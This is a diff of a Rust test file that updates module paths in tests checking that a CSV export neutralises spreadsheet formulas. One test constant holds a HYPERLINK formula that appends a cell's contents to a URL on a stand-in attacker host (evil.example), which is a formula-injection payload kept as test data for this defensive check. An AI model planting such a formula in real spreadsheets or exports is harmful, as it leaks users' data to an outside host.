@@ -9,9 +9,9 @@ use std::collections::BTreeMap;
 use base64::Engine;
 use common::*;
 use fellowship::api::dispatch;
+use fellowship::api::session::Session;
 use fellowship::challenges::Proposal;
 use fellowship::csv_io::plain;
-use fellowship::session::Session;
 use serde_json::{json, Value};
 
 const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&B2,"Open")"#;
@@ -65,7 +65,7 @@ async fn a_challenge_titled_with_a_formula_comes_out_of_the_export_as_text() {
     .unwrap();
 
     let out = w.dir.path().join("export");
-    fellowship::export::export_csv(w.db(), &t.faculty, &out)
+    fellowship::tools::export::export_csv(w.db(), &t.faculty, &out)
         .await
         .unwrap();
     let text = std::fs::read_to_string(out.join("challenges.csv")).unwrap();
@@ -313,7 +313,7 @@ async fn a_historic_file_with_neutralised_cells_imports_what_was_typed() {
     // Exported again, each comes out as it went in.
     let out = w.dir.path().join("export");
     let faculty = w.faculty().await;
-    fellowship::export::export_csv(w.db(), &faculty, &out)
+    fellowship::tools::export::export_csv(w.db(), &faculty, &out)
         .await
         .unwrap();
     let text = std::fs::read_to_string(out.join("fellows.csv")).unwrap();
